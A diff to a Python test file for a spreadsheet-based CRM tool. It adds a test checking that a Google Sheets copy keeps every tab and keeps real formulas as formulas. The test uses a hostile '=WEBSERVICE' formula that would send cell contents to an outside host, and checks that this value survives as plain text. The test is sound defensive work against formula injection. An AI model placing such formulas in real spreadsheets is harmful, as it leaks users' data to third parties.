@@ -69,7 +69,7 @@ def _parts(path: Path) -> dict[str, bytes]:
 
 
 def test_sigkill_at_random_moments_never_corrupts_and_leftovers_go_next_run(tmp_path: Path) -> None:
-    path = _workbook(tmp_path / "crm.xlsx", contacts=4000)
+    path = _workbook(tmp_path / "crm.xlsx", contacts=1500)
     original = path.read_bytes()
     wb = sheetcrm.open(path)
     problems = wb.validate()
@@ -277,3 +277,30 @@ def test_demo_refuses_to_overwrite_without_force(tmp_path: Path) -> None:
 def test_writing_into_a_missing_folder_is_one_line(tmp_path: Path) -> None:
     with pytest.raises(WorkbookWriteError, match="does not exist"):
         files.write_bytes(b"x", tmp_path / "nowhere" / "a.xlsx")
+
+
+def test_a_copy_of_a_google_spreadsheet_keeps_every_tab_and_formulas_as_formulas(
+    fake, google_client, tmp_path: Path
+) -> None:
+    from sheetcrm.workbook import open_backend
+
+    hostile = '=WEBSERVICE("http://example.invalid/"&B2)'
+    key = fake.create_spreadsheet(
+        "CRM",
+        {
+            "Companies": [["ID", "Name"], ["CO-0001", "Harbor"]],
+            "Contacts": [["ID", "Name", "Note"], ["P-0001", "Amy", hostile]],
+            "Opportunities": [["ID", "Name", "Stage", "Amount", "Double"], ["OP-1", "Deal", "Lead", 10, "=D2*2"]],
+            "Activities": [["ID", "Date", "Type"]],
+            "My notes": [["anything", 1]],
+        },
+        value_input="USER_ENTERED",
+    )
+    # USER_ENTERED made the hostile text a formula too: store it again as text (RAW), as a person can.
+    google_client.open_by_key(key).worksheet("Contacts").update([[hostile]], "C2", raw=True)
+    saved = pull(open_backend(key, client=google_client), tmp_path / "copy.xlsx")
+    wb = openpyxl.load_workbook(saved)
+    assert wb.sheetnames == ["Companies", "Contacts", "Opportunities", "Activities", "My notes"]
+    assert wb["Opportunities"]["E2"].value == "=D2*2" and wb["Opportunities"]["E2"].data_type == "f"
+    assert wb["Contacts"]["C2"].value == hostile and wb["Contacts"]["C2"].data_type == "s"
+    assert wb["My notes"]["B1"].value == 1
